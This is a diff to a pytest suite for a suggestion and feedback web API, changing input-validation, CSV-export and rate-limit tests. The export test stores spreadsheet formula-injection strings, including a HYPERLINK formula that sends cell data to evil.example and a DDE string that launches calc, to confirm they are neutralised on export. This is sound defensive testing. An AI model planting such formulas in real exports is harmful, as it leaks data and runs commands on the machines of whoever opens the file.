@@ -13,7 +13,7 @@ import pytest
 
 from server import create_app
 from storage.feedback import FeedbackEvent
-from tests.helpers import TODAY, make_searcher
+from tests.helpers import TODAY, make_searcher, vote
 
 TOKEN = "correct-horse-battery-staple"
 NESTED = "[" * 30000 + "]" * 30000
@@ -37,10 +37,10 @@ BAD_INPUT = [
      400, "invalid_request"),
     ("lone surrogate in a batch", "/v1/suggest/batch", '{"questions": ["ok", "\\udc00"]}', 400, "invalid_request"),
     ("lone surrogate in a key", "/v1/suggest", '{"question": "发货", "\\ud800": 1}', 400, "invalid_request"),
-    ("lone surrogate in feedback question", "/v1/feedback", '{"question": "\\ud800", "action": "gap"}',
-     400, "invalid_request"),
+    ("lone surrogate in feedback question", "/v1/feedback",
+     '{"request_id": "r", "question": "\\ud800", "action": "gap"}', 400, "invalid_request"),
     ("lone surrogate in feedback article", "/v1/feedback",
-     '{"question": "q", "action": "up", "article_id": "\\ud800"}', 400, "invalid_request"),
+     '{"request_id": "r", "action": "up", "article_id": "\\ud800"}', 400, "invalid_request"),
     ("30k nested arrays", "/v1/suggest", NESTED, 400, "invalid_request"),
     ("30k nested arrays in a field", "/v1/suggest", '{"question": "发货", "filters": ' + NESTED + "}",
      400, "invalid_request"),
@@ -55,13 +55,14 @@ BAD_INPUT = [
      400, "invalid_request"),
     ("huge integer weight", "/v1/suggest", '{"question": "发货", "weights": {"dense": ' + "9" * 400 + "}}",
      400, "invalid_request"),
-    ("62 KB article_id", "/v1/feedback", json.dumps({"question": "q", "action": "up", "article_id": "a" * 62000}),
+    ("62 KB article_id", "/v1/feedback", json.dumps({"request_id": "r", "action": "up", "article_id": "a" * 62000}),
      400, "invalid_request"),
     ("long product", "/v1/suggest", json.dumps({"question": "发货", "product": "x" * 201}), 400, "invalid_request"),
     ("long category", "/v1/suggest", json.dumps({"question": "发货", "filters": {"category": "x" * 201}}),
      400, "invalid_request"),
-    ("long index_version", "/v1/feedback", json.dumps({"question": "q", "action": "gap", "index_version": "v" * 101}),
-     400, "invalid_request"),
+    ("long index_version", "/v1/feedback",
+     json.dumps({"request_id": "r", "action": "gap", "index_version": "v" * 101}), 400, "invalid_request"),
+    ("long request_id", "/v1/feedback", json.dumps({"request_id": "r" * 65, "action": "gap"}), 400, "invalid_request"),
     ("UTF-8-encoded surrogate", "/v1/suggest", b'{"question": "\xed\xa0\x80"}', 400, "invalid_request"),
     ("invalid UTF-8", "/v1/suggest", b'{"question": "\xff\xfe"}', 400, "invalid_json"),
     ("empty body", "/v1/suggest", "", 400, "invalid_json"),
@@ -159,17 +160,15 @@ def test_export_neutralises_formula_cells_and_streams(admin_app):
     client = admin_app.test_client()
     attacks = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", "正常的问题 =1+1"]
-    for text in attacks:
-        assert client.post("/v1/feedback", json={"question": text, "action": "up", "article_id": "cream-shelf-life",
-                                                 "index_version": "@v"}).status_code == 201
+    for text in attacks:  # the stored question is the served answer's
+        assert vote(client, text, "up").status_code == 201
     response = client.get("/v1/feedback/export", headers={"Authorization": "Bearer " + TOKEN})
     assert response.is_streamed
     rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
-    assert rows[0] == ["id", "at", "question", "article_id", "action", "index_version"]
+    assert rows[0] == ["id", "at", "question", "article_id", "action", "index_version", "request_id"]
     questions = [row[2] for row in rows[1:]]
     assert questions[:-1] == ["'" + text.strip() for text in attacks[:-1]]  # questions are stored stripped
     assert questions[-1] == "正常的问题 =1+1", "only a leading formula character is neutralised"
-    assert {row[3] for row in rows[1:]} == {"cream-shelf-life"} and {row[5] for row in rows[1:]} == {"'@v"}
 
 
 @pytest.mark.parametrize("cell, exported", [
@@ -399,10 +398,10 @@ def test_rate_limit_is_per_client_with_retry_after(built, tmp_path, config, hash
     assert limited.status_code == 429 and limited.get_json()["error"]["code"] == "rate_limited"
     assert int(limited.headers["Retry-After"]) >= 1
     assert ask("10.0.0.2").status_code == 200, "another client has its own bucket"
-    big = client.post("/v1/feedback", json={"question": "发" * 2000, "action": "gap"},
+    big = client.post("/v1/feedback", json={"request_id": "r", "question": "发" * 2000, "action": "gap"},
                       environ_base={"REMOTE_ADDR": "10.0.0.3"})
-    assert big.status_code == 201
-    assert client.post("/v1/feedback", json={"question": "x", "action": "gap"},
+    assert big.status_code == 404  # answered (no such request), and its size counted
+    assert client.post("/v1/feedback", json={"request_id": "r", "action": "gap"},
                        environ_base={"REMOTE_ADDR": "10.0.0.3"}).status_code == 429, "a big body costs its size"
     assert client.get("/healthz", environ_base={"REMOTE_ADDR": "10.0.0.1"}).status_code == 200
 
